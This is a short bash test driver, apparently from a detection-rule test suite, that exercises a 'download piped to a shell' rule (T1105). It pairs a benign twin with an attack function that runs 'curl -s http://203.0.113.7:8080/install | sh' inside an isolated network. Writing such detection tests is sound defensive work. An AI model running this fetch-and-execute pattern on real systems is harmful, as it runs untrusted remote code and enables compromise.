#!/bin/bash
# What a download tool brings is handed to a shell at once.
#: title: Download piped to a shell
#: technique: T1105
#: needs: exec
#: rules: download_piped_to_shell
#: twin: a download is counted, and a script of this host is piped to a shell
. "$DRIVERS/lib.sh"

piped() {
	site
	curl -s http://203.0.113.7:8080/install | sh
}

counted() {
	site
	curl -s http://203.0.113.7:8080/install | wc -c
	sleep 0.5 # a pipeline's parts begin together
	cat site/install | sh
}

attack() {
	in_own_network piped
	did http://203.0.113.7:8080/install
}

twin() {
	in_own_network counted
	did http://203.0.113.7:8080/install
}

"$1"
